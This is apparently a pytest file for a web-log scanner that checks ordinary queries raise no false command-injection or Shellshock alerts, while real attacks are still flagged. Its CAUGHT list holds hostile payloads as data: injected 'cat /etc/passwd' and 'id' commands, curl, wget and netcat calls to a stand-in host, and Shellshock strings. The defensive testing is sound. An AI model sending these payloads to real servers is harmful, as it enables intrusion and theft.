"""Ordinary traffic that raised a critical command-injection or Shellshock alert (the audit of
2026-12-07), scanned as a user scans a log: it must raise no alert and no finding of medium or
more, while the attacks next to it stay caught."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from lwsyslog.cli.main import main

_HEAD = '203.0.113.9 - - [07/Dec/2026:10:00:00 +0000] "GET '
_TAIL = ' HTTP/1.1" 200 512 "-" "Mozilla/5.0"'
_SERIOUS = frozenset({"medium", "high", "critical"})


def _line(target: str) -> str:
    return f"{_HEAD}{target}{_TAIL}"


def _error(second: int, message: str, module: str = "proxy_fcgi") -> str:
    return (
        f"[Sun Dec 07 10:00:{second:02d}.000000 2026] [{module}:error] [pid 1692306:tid 1692306] "
        f"[client 192.0.2.66:63594] {message}"
    )


_PHP_MESSAGES = (
    "AH01071: Got error 'PHP message: PHP Deprecated: foo() is deprecated in /var/www/x.php on "
    'line 40; PHP message: PHP Warning: Undefined array key "a" in /var/www/y.php on line 12\''
)

ORDINARY = [
    # 1. PHP-FPM joins the messages of one request with "; PHP message:".
    _error(0, _PHP_MESSAGES),
    # 2. Searches, page titles (Matomo's action_name) and a textarea sent by GET.
    _line("/search?q=dogs;+cat+food"),
    _line("/search?q=ping+pong;+echo+chamber"),
    _line("/search?q=tips;+sleep+better"),
    _line("/search?q=news;+curl+up+with+a+book"),
    _line("/search?q=brooklyn+%7C+ping+pong+bar"),
    _line("/search?q=fish+%26+chips;+id+badge"),
    _line("/matomo.php?idsite=1&rec=1&action_name=Pet%20Shop%20|%20Cat%20Food"),
    _line("/matomo.php?idsite=1&rec=1&action_name=Pet%20Shop%20|%20Sleep%20Better"),
    _line("/matomo.php?idsite=1&rec=1&action_name=Pet%20Shop%20|%20Ping%20Test"),
    _line("/matomo.php?idsite=1&rec=1&action_name=Pet%20Shop%20|%20Id%20card"),
    _line("/matomo.php?idsite=1&rec=1&action_name=Pet%20Shop%20|%20Echo%20Dot"),
    _line("/matomo.php?idsite=1&rec=1&action_name=Pet%20Shop%20|%20Curl%20cream"),
    _line("/matomo.php?idsite=1&rec=1&action_name=Pet%20Shop%20|%20Bash%20party"),
    _line("/matomo.php?idsite=1&rec=1&action_name=Art%20|%20Nc%20Wyeth"),
    _line("/matomo.php?idsite=1&rec=1&action_name=dog%20|%20cat"),
    _line("/contact?msg=Hello%0D%0Aid+like+to+ask+about+pricing"),
    _line("/contact?msg=Thanks!%0D%0AEcho+Park+office"),
    # 3. phpMyAdmin's own sort link: backticks quote SQL identifiers.
    _line(
        "/phpmyadmin/sql.php?db=shop&sql_query=SELECT+%2A+FROM+%60orders%60+%0AORDER+BY+"
        "%60orders%60.%60id%60+DESC"
    ),
    # 4. "() {" inside code, not at the start of a value.
    _line("/paste?code=int+main()+%7B+return+0;+%7D"),
    _line("/paste?code=setTimeout(function()+%7B+%7D,+1000)"),
    _line("/search?q=CSS+:is()+%7B+%7D"),
]

CAUGHT = [
    (_line("/ping.php?ip=127.0.0.1;id"), "command-injection-chain"),
    (_line("/ping.php?ip=127.0.0.1|cat%20/etc/passwd"), "command-injection-chain"),
    (_line("/ping.php?ip=127.0.0.1;cat%20/etc/passwd"), "command-injection-chain"),
    (_line("/ping.php?ip=127.0.0.1|id"), "command-injection-chain"),
    (_line("/ping.php?ip=127.0.0.1%0Aid"), "command-injection-chain"),
    (_line("/ping.php?ip=127.0.0.1;sleep%205"), "command-injection-chain"),
    (_line("/ping.php?ip=127.0.0.1|ping%20-n%203%20127.0.0.1"), "command-injection-chain"),
    (_line("/ping.php?ip=127.0.0.1%20%26%26%20whoami"), "command-injection-chain"),
    (_line("/ping.php?ip=127.0.0.1;curl%20http://198.51.100.9/"), "command-injection-chain"),
    (_line("/ping.php?ip=127.0.0.1;wget%20http://198.51.100.9/x"), "command-injection-chain"),
    (_line("/ping.php?ip=127.0.0.1|%20nc%20198.51.100.9%204444"), "command-injection-chain"),
    (_line("/ping.php?ip=%60id%60"), "command-injection-chain"),
    (_line("/ping.php?ip=127.0.0.1;%60id%60"), "command-injection-chain"),
    (
        _error(0, "AH00126: Invalid URI in request GET /ping.php?ip=1;id HTTP/1.1", "core"),
        "command-injection-chain",
    ),
    (
        _error(
            0,
            'ModSecurity: Access denied with code 403 (phase 2). [data "Matched Data: ;cat '
            '/etc/passwd found within ARGS:ip: 127.0.0.1;cat /etc/passwd"]',
            "security2",
        ),
        "command-injection-chain",
    ),
    (
        _error(0, "AH01215: /bin/bash: warning: HTTP_X: ignoring function definition attempt"),
        "shellshock-bash-import",
    ),
    (_line("/cgi-bin/status.cgi?x=%28%29%20%7B%20%3A%3B%20%7D%3B%20id"), "shellshock-function-def"),
    (_line("/cgi-bin/%28%29%20%7B%20%3A%3B%20%7D%3B%20id"), "shellshock-function-def"),
]


def _scan(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], *lines: str
) -> list[dict[str, object]]:
    log = tmp_path / "traffic.log"
    log.write_text("\n".join(lines) + "\n", encoding="utf-8")
    main(["scan", "--json", "--no-system-config", str(log)])
    return [json.loads(row) for row in capsys.readouterr().out.splitlines()]


@pytest.mark.parametrize("line", ORDINARY, ids=[line[46:110] for line in ORDINARY])
def test_ordinary_traffic_raises_no_alert_and_nothing_of_medium_or_more(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], line: str
) -> None:
    records = _scan(tmp_path, capsys, line)
    assert [r for r in records if r["kind"] == "alert"] == []
    assert [r["rules"] for r in records if r.get("severity") in _SERIOUS] == []


@pytest.mark.parametrize(("line", "rule_id"), CAUGHT, ids=[c[0][46:110] for c in CAUGHT])
def test_the_attack_next_to_the_ordinary_shape_is_still_found(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], line: str, rule_id: str
) -> None:
    records = _scan(tmp_path, capsys, line)
    assert any(rule_id in r.get("rules", ()) for r in records if r["kind"] == "finding")


def test_php_fpm_messages_of_one_client_are_no_missing_script_and_raise_no_burst(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    records = _scan(
        tmp_path, capsys, *(_error(second, _PHP_MESSAGES) for second in range(0, 30, 5))
    )
    assert [r for r in records if r["kind"] == "alert"] == []
    assert all("scanner-missing-script" not in r.get("rules", ()) for r in records)


def test_a_burst_of_primary_script_unknown_still_raises_the_burst_alert(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    unknown = "AH01071: Got error 'Primary script unknown'"
    records = _scan(tmp_path, capsys, *(_error(second, unknown) for second in range(0, 30, 5)))
    findings = [r for r in records if r["kind"] == "finding"]
    assert len(findings) == 6
    assert all(r["rules"] == ["scanner-missing-script"] for r in findings)
    assert [r["rule"] for r in records if r["kind"] == "alert"] == ["urgent-burst"]
